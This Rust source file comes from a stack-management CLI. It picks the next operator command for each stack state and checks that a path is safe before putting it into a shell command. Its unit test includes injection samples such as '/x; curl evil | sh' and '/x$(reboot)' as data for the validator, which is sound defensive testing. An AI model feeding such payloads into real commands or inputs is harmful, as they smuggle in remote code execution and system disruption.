//! The next step: the one thing that an operator would do now.

use crate::api::action::ActionPhase;
use crate::api::incident::IncidentKind;
use crate::api::session::SessionPhase;
use crate::api::soak::Verdict;
use crate::api::stack::{DesiredState, default_host};
use crate::api::stop::ALL;
use crate::api::{Severity, elapsed};
use crate::plan::authorise::{BUDGET, COOLDOWN, PRECONDITION, SESSION, TOOL_POLICY};
use crate::plan::decide::DecisionKind;

use super::picture::{Blocked, NextStep, Picture, Sight, Soak, State};
use crate::cli::print::age::age;

/// A session that runs out so soon is worth a word: time enough to do something about it.
const SOON: std::time::Duration = std::time::Duration::from_secs(30 * 60);

/// What to do now. The first that applies: what is not known, then what only a person can do, then what takes care of itself.
pub(super) fn step(picture: &Picture) -> NextStep {
    let stack = &picture.stack;
    match picture.state {
        State::Unknown => unknown(picture),
        State::Stopped => {
            let all = picture.stops.iter().any(|s| s.name == ALL);
            let resume = format!("wicapctl resume {}", if all { "--all" } else { stack });
            // A stop that a stop file has made bears the file's path.
            match picture.stops.iter().find(|s| is_stop_file(&s.by)) {
                Some(stop) => run(
                    "When the reason for the stop is gone, remove the stop file and take it back:",
                    format!("rm -f {} && {resume}", stop.by),
                ),
                None => run("When the reason for the stop is gone, take it back:", resume),
            }
        }
        State::AwaitingApproval => match picture.actions.iter().find(|a| a.phase == ActionPhase::AwaitingApproval) {
            Some(asked) => {
                let what = asked.action.on(&asked.target);
                let by = asked.answer_by.map_or_else(String::new, |at| format!(" within {}", age(picture.at, at)));
                let why = format!("Say yes to {what}{by}, or no with `wicapctl deny {}`:", asked.name);
                run(why, format!("wicapctl approve {}", asked.name))
            }
            None => watch(picture, "Nothing:"),
        },
        State::Blocked => match picture.blocked.first() {
            Some(blocked) => open(picture, blocked),
            None => watch(picture, "Nothing:"),
        },
        State::Escalated => match picture.incidents.iter().find(|i| matches!(i.kind, IncidentKind::Drift(_))) {
            Some(incident) => run(
                format!("Mend {} by hand. What was tried, and how to have it tried anew:", incident.service),
                format!("wicapctl why incident/{}", incident.name),
            ),
            None => run("Look at what was tried:", format!("wicapctl why stack/{stack}")),
        },
        State::Stalled => stalled(picture),
        State::Mending => mending(picture),
        State::Starting => watch(picture, "Nothing, it is on its way. To look on:"),
        State::Maintenance => watch(picture, "Nothing, until the maintenance is over. To look on:"),
        State::Healthy => healthy(picture),
    }
}

/// Whether a text is the path of a stop file. Whoever stops may call himself anything: no other file becomes part of a command that
/// removes one.
fn is_stop_file(text: &str) -> bool {
    is_path(text) && text.ends_with("/STOP")
}

/// Whether a text is the path of a file that can be written into a command as it is. Whoever stops may call himself anything.
fn is_path(text: &str) -> bool {
    text.starts_with('/') && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"/._-".contains(&b))
}

fn run(why: impl Into<String>, command: impl Into<String>) -> NextStep {
    NextStep { why: why.into(), command: Some(command.into()) }
}

fn watch(picture: &Picture, why: &str) -> NextStep {
    run(why, format!("wicapctl status {} -w", picture.stack))
}

fn unknown(picture: &Picture) -> NextStep {
    let host = &picture.host;
    match picture.observation.state {
        Sight::EngineSilent => run(format!("See on {host} why the engine does not answer:"), "docker info"),
        Sight::Fresh => run("See what could not be asked:", format!("wicapctl describe stack {}", picture.stack)),
        Sight::Stale | Sight::Never => run(
            format!(
                "See on {host} whether wicapd runs (systemctl status wicapd, or pgrep -a wicapd). If it does, wicapctl doctor says what it lacks; if not, start it there, as its service or by hand:"
            ),
            daemon(host),
        ),
    }
}

/// The daemon that serves a host.
fn daemon(host: &str) -> String {
    if host == default_host() { "wicapd run".to_owned() } else { format!("wicapd run --host {host}") }
}

fn open(picture: &Picture, blocked: &Blocked) -> NextStep {
    let stack = &picture.stack;
    let what = blocked.action.on(&blocked.target);
    let pending = picture.sessions.iter().find(|s| s.phase == SessionPhase::Pending);
    let in_force = picture.sessions.iter().find(|s| s.phase == SessionPhase::Active);
    match (blocked.gate.as_str(), pending, in_force) {
        (SESSION, Some(waiting), None) => {
            let why = waiting.message.as_deref().map_or_else(String::new, |m| format!(" ({m})"));
            let why = format!("Session {} is Pending{why}. See what it waits for:", waiting.name);
            run(why, format!("wicapctl why session/{}", waiting.name))
        }
        (SESSION, _, None) => run(format!("To permit {what}, open a session:"), format!("wicapctl session start {stack}")),
        // To end a session ends the soak that runs in it: that is for whoever started it to decide.
        (SESSION, _, Some(session)) if session.acts() && picture.soaks.is_empty() => run(
            format!(
                "Session {} does not permit {what}, and a stack has one that acts at a time. For another one:",
                session.name
            ),
            format!("wicapctl session end {} && wicapctl session start {stack}", session.name),
        ),
        (SESSION, _, Some(session)) if !session.acts() => run(
            format!("Session {} is {:?}. To permit {what}, open one that acts:", session.name, session.mode),
            format!("wicapctl session start {stack}"),
        ),
        (BUDGET | COOLDOWN | PRECONDITION, ..) if blocked.until.is_some() => {
            let wait = blocked.until.map_or_else(String::new, |at| age(picture.at, at));
            watch(picture, &format!("Nothing, the gate opens by itself in {wait}. To look on:"))
        }
        (gate, ..) => {
            let how = match gate {
                TOOL_POLICY => "have a rule in spec.allow of every policy permit it (wicapctl edit policy)",
                _ => "change what forbids it, as told above",
            };
            let session = in_force.map_or_else(String::new, |s| format!(" --session {}", s.name));
            let target = if blocked.target.is_empty() { String::new() } else { format!(" --target {}", blocked.target) };
            let command = format!("wicapctl policy explain --stack {stack}{session} --action {}{target}", blocked.action);
            run(format!("If {what} should be permitted, {how}. What every gate says:"), command)
        }
    }
}

fn stalled(picture: &Picture) -> NextStep {
    let host = &picture.host;
    if picture.decisions.iter().any(|d| d.overdue) {
        let why = "The planner does not run. See whether wicapd does (pgrep -a wicapd; wicapctl doctor), or start it, as its service or by hand:";
        return run(why, daemon(host));
    }
    let why =
        format!("The actuator of {host} does not run. See whether wicapd runs there (pgrep -a wicapd), or start it there:");
    run(why, daemon(host))
}

fn mending(picture: &Picture) -> NextStep {
    let waits = picture.decisions.iter().any(|d| matches!(d.kind, DecisionKind::Act | DecisionKind::Wait));
    let why = if picture.actions.is_empty() && waits {
        "Nothing, it is mended as soon as it is due. To look on:"
    } else {
        "Nothing, it is being mended. To look on:"
    };
    watch(picture, why)
}

/// Starts a service by hand. Nothing, where a path would have to be quoted.
fn compose_up(picture: &Picture, service: &str) -> Option<String> {
    if !is_path(&picture.directory) || !picture.files.iter().all(|file| is_path(&format!("/{file}"))) {
        return None;
    }
    let files: String = picture.files.iter().map(|file| format!(" -f {file}")).collect();
    Some(format!("cd {} && docker compose -p {}{files} up -d {service}", picture.directory, picture.project))
}

fn healthy(picture: &Picture) -> NextStep {
    let grave = picture.incidents.iter().find(|i| i.severity >= Severity::Warning);
    if let Some(incident) = grave {
        let why = format!("It runs. See to the incident of {}:", incident.service);
        return run(why, format!("wicapctl why incident/{}", incident.name));
    }
    if let Some(unmanaged) = picture.services.iter().find(|s| !s.managed && s.as_desired == Some(false)) {
        let why = format!("{} is not managed, and nobody mends it. If it should run:", unmanaged.name);
        return NextStep { why, command: compose_up(picture, &unmanaged.name) };
    }
    let nothing = || NextStep { why: "Nothing.".to_owned(), command: None };
    of_session(picture).or_else(|| picture.soaks.iter().find_map(of_soak)).unwrap_or_else(nothing)
}

/// What is to be done so that what breaks later will be mended.
fn of_session(picture: &Picture) -> Option<NextStep> {
    const HOUR: u64 = 3600;
    let another = format!("wicapctl session start {}", picture.stack);
    let Some(session) = picture.sessions.iter().find(|s| s.acts()) else {
        let why = "Nothing is wrong. But nothing would be mended either. To have what breaks mended, open a session:";
        return (picture.desired == DesiredState::Running).then(|| run(why, another));
    };
    let out = session.expires_at?;
    let name = &session.name;
    let under_way = || picture.soaks.iter().filter(|soak| soak.verdict.is_none());
    let outlives = under_way().find_map(|soak| Some((soak, soak.ends_at.filter(|end| *end > out)?)));
    let (why, lacks) = match outlives {
        Some((soak, end)) => {
            let early = age(out, end);
            let why = format!("But session {name} runs out {early} before soak {} is over; what breaks then", soak.name);
            (why, elapsed(out, end))
        }
        None if elapsed(picture.at, out) < SOON => (format!("Session {name} soon runs out; what breaks after that"), SOON),
        None => return None,
    };
    if picture.sessions.iter().any(|s| s.phase == SessionPhase::Pending) {
        return None;
    }
    let why = format!("Nothing is wrong. {why} is not mended.");
    // A session is extended by one that takes its place, which would end what runs in it.
    Some(if under_way().any(|soak| soak.session.as_ref() == Some(name)) {
        run(format!("{why} For another one, which begins when this one ends:"), another)
    } else {
        let hours = (lacks.as_secs() / HOUR + 1).max(8);
        run(format!("{why} For more time:"), format!("wicapctl session extend {name} --by {hours}h"))
    })
}

/// What a soak run asks of a person while its stack is well.
fn of_soak(soak: &Soak) -> Option<NextStep> {
    let name = &soak.name;
    let why = match soak.verdict {
        Some(Verdict::Passed) => return None,
        Some(verdict) => format!("The stack runs, and soak {name} has ended as {verdict:?}. See why:"),
        None if soak.failed > 0 => format!("The stack runs, and checks of soak {name} have failed. See which:"),
        None => return None,
    };
    Some(run(why, format!("wicapctl why soak/{name}")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_somebody_calls_himself_becomes_no_part_of_a_command_unless_it_is_a_plain_path() {
        for (text, expected) in [
            ("/var/lib/wicap/STOP", true),
            ("/var/lib/wicap/store.redb", false),
            ("ann@host", false),
            ("/x; curl evil | sh", false),
            ("/x$(reboot)", false),
            ("/x\ny", false),
            ("", false),
        ] {
            assert_eq!(is_stop_file(text), expected, "{text:?}");
        }
    }
}
